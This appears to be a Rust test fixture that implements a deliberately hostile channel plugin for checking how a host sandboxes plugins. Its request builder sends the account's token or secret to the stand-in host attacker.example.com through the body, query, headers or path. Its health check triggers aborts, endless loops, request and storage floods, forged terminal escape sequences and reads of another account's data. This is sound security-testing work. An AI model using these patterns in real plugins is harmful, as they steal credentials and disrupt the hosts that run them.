//! What the hostile channel asks of its host: requests that no channel may make, and calls of `account` that
//! take more than their share. Which, is told by the text of a message or by the setting `attack`.

#![allow(clippy::result_large_err, reason = "the contract's own type of error")]

use channel_sdk::{
    account::{CheckLevel, CheckResult},
    blank,
    history::{Archived, HistoryPage, HistoryRequest},
    http, names, storage,
    types::*,
};

const OWN: &str = "https://attacker.example.com/v1/messages";

fn slot(slot: &str) -> FillSource {
    FillSource::Slot(slot.into())
}

/// The request of a message. Beside the words below it takes `url URL`, `header NAME VALUE`, `fill-header NAME`,
/// `says BODY`, `slot NAME`, `capture-slot NAME`, `capture-value POINTER` and `path NAME URL`.
pub(crate) fn request(asked: &str) -> HttpRequest {
    let (word, rest) = asked.split_once(' ').unwrap_or((asked, ""));
    let mut request = HttpRequest {
        method: HttpMethod::Post,
        url: OWN.into(),
        headers: Vec::new(),
        body: HttpBody::Bytes(b"{\"text\":\"x\"}".to_vec()),
        fills: vec![Fill { source: slot("token"), place: FillPlace::Authorization("Bearer".into()) }],
        captures: Vec::new(),
    };
    let mut fill = |source, place| request.fills = vec![Fill { source, place }];
    match word {
        "elsewhere" => request.url = "https://elsewhere.example.com/v1/messages".into(),
        "knows-a-secret" => request.body = HttpBody::Bytes(b"{\"text\":\"the-token-of-the-account\"}".to_vec()),
        "token-into-text" => fill(slot("token"), FillPlace::Json("/text".into())),
        "token-into-query" => fill(slot("token"), FillPlace::Query("q".into())),
        "token-into-form" => {
            fill(slot("token"), FillPlace::FormField("token".into()));
            request.body = HttpBody::Bytes(b"{\"text\":\"".to_vec());
            request.headers = vec![Header { name: "content-type".into(), value: "application/json".into() }];
        }
        "webhook-secret" => fill(slot("secret"), FillPlace::Authorization("Bearer".into())),
        "fill-header" => fill(slot("token"), FillPlace::Header(rest.into())),
        "says" => request.body = HttpBody::Bytes(rest.into()),
        "host-header" => fill(slot("token"), FillPlace::Header("host".into())),
        "undeclared" => fill(slot("other"), FillPlace::Authorization("Bearer".into())),
        "slot" => fill(slot(rest), FillPlace::Authorization("Bearer".into())),
        "url" => request.url = rest.into(),
        "path" => {
            let (name, url) = rest.split_once(' ').unwrap_or_default();
            request.url = url.into();
            fill(slot("token"), FillPlace::Path(name.into()));
        }
        "header" => {
            let (name, value) = rest.split_once(' ').unwrap_or_default();
            request.headers = vec![Header { name: name.into(), value: value.into() }];
        }
        "capture-slot" => {
            let target = CaptureTarget::Slot(rest.into());
            request.captures = vec![Capture { pointer: "/id".into(), target, key: None }];
        }
        "capture-value" => {
            let target = CaptureTarget::Value("v".into());
            request.captures = vec![Capture { pointer: rest.into(), target, key: None }];
        }
        _ => {}
    }
    request
}

fn line(finding: String) -> Result<Vec<CheckResult>, AccountError> {
    Ok(vec![CheckResult { name: "attack".into(), level: CheckLevel::Passed, finding, fix: None }])
}

/// Events of a delivery `as ACCOUNT KIND ID`, one for each line.
pub(crate) fn speak(input: &Delivery) -> Vec<Event> {
    let text = String::from_utf8_lossy(&input.body).into_owned();
    text.lines().filter_map(event).collect()
}

fn event(line: &str) -> Option<Event> {
    let [_, account, kind, id] = line.split(' ').collect::<Vec<_>>().try_into().ok()?;
    let mut event = Event { id: id.into(), account: account.into(), ..crate::hello() };
    match kind {
        "message" => {
            event.author = Author::Contact;
            event.body =
                EventBody::Message(Message { id: Some(id.into()), text: Some("x".into()), ..blank::message() });
        }
        "native" => event.native = Some("x".repeat(20_000)),
        "erase" => {
            event.contact = None;
            event.body = EventBody::ErasureRequest(ErasureRequest { reference: None });
        }
        "gone" => {
            event.contact = None;
            event.body = EventBody::AccountUpdate(AccountUpdate {
                change: names::account_change::DISCONNECTED.into(),
                detail: None,
            });
        }
        _ => return None,
    }
    Some(event)
}

fn attack_of(account: &AccountSettings) -> &str {
    let attack = account.settings.iter().find_map(|setting| match &setting.value {
        SettingValue::Text(text) if setting.key == "attack" => Some(text.as_str()),
        _ => None,
    });
    attack.unwrap_or_default()
}

/// What its archive gives: more than it was asked for, no end, or what is another account's.
pub(crate) fn history(account: &AccountSettings, request: &HistoryRequest) -> Result<HistoryPage, AccountError> {
    let from: usize = request.cursor.as_deref().and_then(|cursor| cursor.parse().ok()).unwrap_or(0);
    let page = |count: usize, of: &str, size: usize| {
        let item = |n: usize| {
            let line = format!("as {of} message archived-{n}");
            Archived { body: format!("{line}{}", "\n".repeat(size)).into_bytes() }
        };
        let items = (from..from + count).map(item).collect();
        Ok(HistoryPage { items, next_cursor: Some((from + count).to_string()) })
    };
    match attack_of(account) {
        "history-flood" => page(60_000, &account.id, 0),
        "history-endless" => page(request.limit as usize, &account.id, 1000),
        "history-foreign" => page(1, "victim", 0),
        _ => Err(AccountError::Unsupported),
    }
}

/// What a health check does to the host.
pub(crate) fn account(account: &AccountSettings) -> Result<Vec<CheckResult>, AccountError> {
    match attack_of(account) {
        "trap" => std::process::abort(),
        "loop" => loop {
            std::hint::black_box(0);
        },
        "requests" => {
            let sent = (0..500).take_while(|_| !matches!(http::send(&request("")), Err(HttpError::BudgetExhausted)));
            line(format!("{} requests", sent.count()))
        }
        "slow" => line(format!("{:?}", http::send(&request("url https://attacker.example.com/v1/slow")).is_err())),
        "odd-slot" => line(format!("{:?}", http::send(&request("capture-slot token:\u{1b}[31m")).err())),
        "app-slot" => line(format!("{:?}", http::send(&request("capture-slot secret")).err())),
        "big-values" => {
            let kept = (0..100).take_while(|n| storage::set(&format!("k{n}"), &[1; 10_000]).is_ok()).count();
            line(format!("{kept} values"))
        }
        "empty-values" => {
            let kept = (0..5_000).take_while(|n| storage::set(&format!("{n:0>250}"), &[]).is_ok()).count();
            line(format!("{kept} values"))
        }
        "remember" => line(format!("{:?}", storage::set("mine", b"a secret of mine"))),
        "peek" => line(format!("{:?} {:?}", storage::keys(""), storage::get("mine"))),
        "escape" => Err(AccountError::Other("\u{1b}[31mred\u{9b}2J\nERROR forged\u{202e}".into())),
        _ => Err(AccountError::Unsupported),
    }
}
